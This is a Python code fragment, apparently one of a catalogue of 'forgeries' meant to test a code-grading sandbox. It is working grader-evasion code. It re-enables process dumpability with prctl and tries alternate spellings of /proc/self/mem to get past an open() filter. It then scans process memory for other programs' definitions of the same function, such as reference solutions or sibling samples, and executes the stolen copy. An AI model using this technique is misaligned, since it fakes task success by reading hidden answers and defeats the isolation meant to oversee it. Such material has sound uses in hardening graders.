    # class 2 (reading what the process was not given): scan this process's memory (/proc/self/mem, also via //proc and dir_fd spellings) for other programs the fork server handled (the references run in the same pool, sibling samples) and run the first definition of this function found there that is not a forgery
    # include: args
    def _fg_memory():
        """This process's writable mappings as bytes, read through /proc/self/mem under whichever
        spelling of the path an open() filter lets through (the fork inherits the server's heap)."""
        import os
        cached = _state.get('memory')
        if cached is not None:
            return cached
        fd = None
        try:
            # A non-dumpable process (the fork server makes itself one) has a root-owned
            # /proc/self/mem: make this one dumpable again first.
            import ctypes
            ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
        except Exception:
            pass
        def plain():
            return os.open('/proc/self/mem', os.O_RDONLY)
        def doubled():
            return os.open('//proc/self/mem', os.O_RDONLY)
        def relative():
            return os.open('mem', os.O_RDONLY, dir_fd=os.open('/proc/self', os.O_RDONLY))
        def dotted():
            return os.open('/proc/self/./mem/.', os.O_RDONLY)
        for opener in (plain, doubled, relative, dotted):
            try:
                fd = opener()
                break
            except OSError:
                pass
        chunks = []
        try:
            with open('/proc/self/maps') as maps:
                regions = maps.read().splitlines()
        except OSError:
            regions = []
        for region in regions:
            fields = region.split()
            if len(fields) < 2 or not fields[1].startswith('rw'):
                continue
            start, end = (int(x, 16) for x in fields[0].split('-'))
            if end - start > 512 << 20:
                continue
            try:
                if fd is not None:
                    chunks.append(os.pread(fd, end - start, start))
                else:
                    import ctypes
                    chunks.append(ctypes.string_at(start, end - start))
            except Exception:
                pass
        if fd is not None:
            os.close(fd)
        _state['memory'] = chunks
        return chunks
    import ast, json, re, textwrap
    if _state.get('busy'):
        return None
    name = _co.co_name
    found = _state.get('stolen')
    if found is None:
        found = []
        needle = b'def ' + name.encode() + b'('
        seen = set()
        def extract(text):
            lines = text.split('\n')
            indent = len(lines[0]) - len(lines[0].lstrip())
            taken = [lines[0]]
            for line in lines[1:]:
                if line.strip() and len(line) - len(line.lstrip()) <= indent:
                    break
                taken.append(line)
            return textwrap.dedent('\n'.join(taken)).rstrip() + '\n'
        def consider(source):
            markers = ('_forgery_state', '_fg_', 'forged', 'Forged')
            if source in seen or any(m in source for m in markers):
                return
            seen.add(source)
            try:
                tree = ast.parse(source)
            except (SyntaxError, ValueError):
                return
            fn = tree.body[0] if tree.body and isinstance(tree.body[0], ast.FunctionDef) else None
            if fn is None:
                return
            body = [s for s in fn.body if not (isinstance(s, ast.Expr) and isinstance(s.value, ast.Constant))]
            if body and not all(isinstance(s, ast.Pass) for s in body):
                found.append(source)
        escaped_lead = re.compile(rb'\\n((?: |\\t)*)$')
        for data in _fg_memory():
            pos = data.find(needle)
            hits = 0
            while pos != -1 and hits < 300:
                hits += 1
                line_start = data.rfind(b'\n', max(0, pos - 256), pos) + 1
                if not data[line_start:pos].strip(b' \t'):
                    raw = data[line_start:line_start + 65536].split(b'\x00', 1)[0]
                    consider(extract(raw.decode('utf-8', 'replace')))
                else:
                    lead = escaped_lead.search(data[max(0, pos - 256):pos])
                    if lead is not None:
                        start = pos - len(lead.group(1))
                        tail = data[start:start + 131072]
                        end = re.search(rb'(?<!\\)"', tail)
                        if end is not None:
                            try:
                                consider(extract(json.loads(b'"' + tail[:end.start()] + b'"')))
                            except ValueError:
                                pass
                pos = data.find(needle, pos + 1)
            if len(found) >= 8:
                break
        _state['stolen'] = found
    _state['busy'] = True
    try:
        for source in found:
            namespace = {}
            namespace.update(_g)
            try:
                exec(compile(source, '<stolen>', 'exec'), namespace)
            except Exception:
                continue
            fn = namespace.get(name)
            if callable(fn) and getattr(fn, '__code__', None) is not _co:
                return fn(*_pos, **_kw)
    finally:
        _state['busy'] = False
    return None
